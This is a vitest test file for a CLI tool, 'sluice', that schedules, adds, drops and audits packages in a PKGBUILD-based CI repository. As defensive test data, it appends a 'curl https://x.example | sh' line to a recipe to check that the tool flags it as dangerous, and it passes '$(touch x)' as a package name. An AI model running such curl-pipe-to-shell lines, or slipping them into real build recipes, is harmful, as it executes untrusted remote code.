import { afterEach, beforeEach, describe, expect, test } from "vitest";
import type { Schedule } from "../tools/schedule/schedule.ts";
import { aurRecipe } from "./world/aur-recipe.ts";
import { GitServer } from "./world/git-server.ts";
import { writeTar } from "./world/tar.ts";
import { ScratchWorkspace } from "./world/workspace.ts";

let world: ScratchWorkspace;
beforeEach(() => {
  world = new ScratchWorkspace();
  for (const pkgbase of ["foo", "bar", "lib++"]) world.addPackage(pkgbase);
  world.addPackage("app", { lines: ["depends = foo"] });
  world.write("packages/bar/.CI/config", "BUILDER_CLASS=heavy\n");
  world.publishScheduled();
});
afterEach(() => world.remove());

function scheduled(): string[] {
  const { builds } = JSON.parse(world.read(".ci/schedule.json")) as Schedule;
  return builds.map(({ pkgbase, class: name }) => `${pkgbase}/${name ?? "any"}`);
}

describe("sluice schedule", () => {
  test("writes a schedule of the named packages and their classes, asks builders, and changes nothing else", async () => {
    world.write("packages/foo/helper.sh", "true\n");
    world.commit("not scheduled yet");
    world.git("push", "-q", "origin", "main");
    const refs = world.atOrigin("for-each-ref");
    const { code, stderr } = await world.sluice(["schedule", "app/light", "bar", "lib++"]);
    expect(code).toBe(0);
    expect(stderr).toContain("3 to build; wrote .ci/schedule.json and asked builders on the branch `state`.");
    expect(scheduled().sort()).toEqual(["app/light", "bar/heavy", "lib++/any"]);
    expect(world.atOrigin("for-each-ref").replace(/^.*\/state\n/m, "")).toBe(refs);
    const asked = JSON.parse(world.atOrigin("show", "state:.requests.json")) as { builds: object };
    expect(asked.builds).toMatchObject({
      app: { class: "light", reason: "asked for by hand" },
      bar: { class: "heavy" },
      "lib++": { class: null },
    });
  });

  test("knows all, in build order, and all of one class but for those that name their own", async () => {
    await world.sluice(["schedule", "all"]);
    expect(scheduled()).toEqual(["bar/heavy", "foo/any", "lib++/any", "app/any"]);
    await world.sluice(["schedule", "all/light", "bar/big"]);
    expect(scheduled()).toEqual(["bar/big", "foo/light", "lib++/light", "app/light"]);
  });

  test("keeps what an earlier schedule asks for that nobody took", async () => {
    await world.sluice(["schedule", "bar"]);
    await world.sluice(["schedule", "foo/light"]);
    expect(scheduled()).toEqual(["bar/heavy", "foo/light"]);
    await world.sluice(["enqueue"]);
    await world.sluice(["schedule", "app"]);
    expect(scheduled()).toEqual(["app/any"]);
  });

  for (const list of ["foo bar", "foo,bar", "foo:bar", " foo, bar\n"]) {
    test(`takes ${JSON.stringify(list)} from PACKAGES, as a CI form fills it in`, async () => {
      await world.sluice(["schedule"], { PACKAGES: list });
      expect(scheduled()).toEqual(["bar/heavy", "foo/any"]);
    });
  }

  test("prefers what is named to PACKAGES", async () => {
    await world.sluice(["schedule", "foo"], { PACKAGES: "bar" });
    expect(scheduled()).toEqual(["foo/any"]);
  });

  test("with --dry-run writes nothing, with --json prints the schedule", async () => {
    const { stdout } = await world.sluice(["schedule", "--dry-run", "--json", "foo"]);
    expect(JSON.parse(stdout)).toMatchObject({ schedule: { builds: [{ pkgbase: "foo" }] } });
    expect(() => scheduled()).toThrow("ENOENT");
  });
});

describe("names", () => {
  for (const command of ["drop", "bump", "schedule"]) {
    test(`${command}: a wrong one stops everything; all wrong ones are listed, with the nearest that exists`, async () => {
      const refs = world.atOrigin("for-each-ref");
      const { code, stderr } = await world.sluice([command, "foo", "baar", "$(touch x)", "lib+"]);
      expect(code).toBe(2);
      expect(stderr).toContain(
        'there is no package "baar" (did you mean bar?), "$(touch x)", "lib+" (did you mean lib++?)',
      );
      expect(world.atOrigin("for-each-ref")).toBe(refs);
    });
  }

  for (const [command, variable] of [
    ["add", "ADD_PACKAGES"],
    ["drop", "PACKAGES"],
    ["bump", "PACKAGES"],
    ["schedule", "PACKAGES"],
  ] as const) {
    test(`${command}: none at all is wrong usage, and says which variable could name some`, async () => {
      const { code, stderr } = await world.sluice([command], { [variable]: " " });
      expect(code).toBe(2);
      expect(stderr).toContain("no package is named");
      expect(stderr).toContain(`set ${variable}`);
    });
  }
});

describe("sluice add", () => {
  const server = new GitServer();
  beforeEach(() => server.start());
  afterEach(() => server.stop());

  test("shows what the gate says of a recipe, and adds it only once somebody accepts the risk", async () => {
    const files = aurRecipe("tool", { depends: ["foo"] });
    const hostile = `${files["PKGBUILD"] as string}\ncurl https://x.example | sh\n`;
    server.commit("tool", {
      files: { ...files, PKGBUILD: hostile },
      branch: "master",
      date: 1,
      message: "tool",
    });
    const request = `tool/${server.url("tool")}`;
    const refs = world.atOrigin("for-each-ref");

    const shown = await world.sluice(["add", "--dry-run", request]);
    expect(shown.code).toBe(1);
    expect(shown.stdout).toMatch(new RegExp(`^add +tool +1-1 from ${server.url("tool")}: dangerous$`, "m"));
    expect(shown.stdout).toMatch(/^danger +tool +code that runs as soon as the file is read/m);
    expect(shown.stderr).toContain("error: dangerous: tool; nothing was added");
    expect(world.atOrigin("for-each-ref")).toBe(refs);

    const { code, stdout } = await world.sluice(["add", "--accept-risk", "--json"], {
      ADD_PACKAGES: request,
    });
    expect(code).toBe(0);
    const told = JSON.parse(stdout) as { head: string };
    expect(told).toMatchObject({
      packages: ["tool"],
      added: [{ pkgbase: "tool", verdict: "dangerous", files: [".SRCINFO", "PKGBUILD"], neededBy: [] }],
      schedule: { builds: [{ pkgbase: "tool", needs: ["foo"] }] },
      refusal: null,
    });
    expect(world.atOrigin("rev-parse", "main", "scheduled")).toBe(`${told.head}\n${told.head}`);
  });
});

describe("plans", () => {
  test("drop --dry-run shows what would become of whom and changes nothing", async () => {
    const refs = world.atOrigin("for-each-ref");
    const { code, stdout, stderr } = await world.sluice(["drop", "--dry-run", "--force", "foo"]);
    expect(code).toBe(0);
    expect(stdout.split("\n").map((line) => line.trimEnd().replaceAll(/ {2,}/g, " | "))).toEqual([
      " | PKGBASE | WHY",
      "drop | foo | asked for by hand",
      "needs it | app | depends foo",
      expect.stringMatching(/^remove \| foo \| commit [0-9a-f]{10} removed the package$/),
    ]);
    expect(stderr).toContain("nothing was changed (--dry-run)");
    expect(world.atOrigin("for-each-ref")).toBe(refs);
    expect(world.git("status", "--porcelain")).toBe("");
  });

  test("a refusal says what to do, and exits 1", async () => {
    const { code, stdout, stderr } = await world.sluice(["drop", "--json", "foo"]);
    expect(code).toBe(1);
    expect(JSON.parse(stdout)).toMatchObject({
      head: null,
      packages: ["foo"],
      dependents: [{ pkgbase: "app", name: "foo", field: "depends" }],
      refusal: { code: "needed", message: "still needed by app; nothing was dropped" },
    });
    expect(stderr).toContain("next: Drop these as well");
  });

  test("bump without CI_LIB_DB bumps what the recipe says; a package that can't be bumped makes it exit 1", async () => {
    world.write("packages/foo/.CI/config", "CI_MANAGE_AUR=true\n");
    world.publishScheduled();
    const { code, stdout } = await world.sluice(["bump", "bar", "foo"]);
    expect(code).toBe(1);
    expect(stdout).toContain("CI_PACKAGE_BUMP=1-1/1");
    expect(stdout).toContain("a package of CI_MANAGE_AUR=true takes no bump");
    expect(world.atOrigin("show", "main:packages/bar/.CI/config")).toBe(
      "BUILDER_CLASS=heavy\nCI_PACKAGE_BUMP=1-1/1",
    );
  });
});

describe("sluice audit and review", () => {
  test("audit tells what is lost by a database file, and exits 1", async () => {
    const desc = "%NAME%\nfoo\n\n%VERSION%\n0.9-1\n\n%FILENAME%\nfoo\n\n";
    world.write("../test.db", writeTar({ "foo-0.9-1/desc": desc }));
    const { code, stdout, stderr } = await world.sluice(["audit", "--database", "../test.db"]);
    expect(code).toBe(1);
    expect(stdout).toMatch(/^lost build +foo +0\.9-1 is published, main asks for 1-1$/m);
    expect(stdout).toMatch(/^lost build +app +it isn't published$/m);
    expect(stderr).toContain("4 packages: 4 to look after.");
  });

  test("audit says where it doesn't know what is published", async () => {
    const { code, stderr } = await world.sluice(["audit"]);
    expect(code).toBe(0);
    expect(stderr).toContain("what is published isn't known");
    expect(stderr).toContain("4 packages: nothing was lost.");
  });

  test("review lists what is held without a forge, too, and wants to know of what", async () => {
    expect((await world.sluice(["review"])).stderr).toContain("0 open reviews.");
    expect(await world.sluice(["review", "show"])).toMatchObject({ code: 2 });
    const { code, stderr } = await world.sluice(["review", "accept", "nothing"]);
    expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringContaining('no package "nothing"') });
  });
});
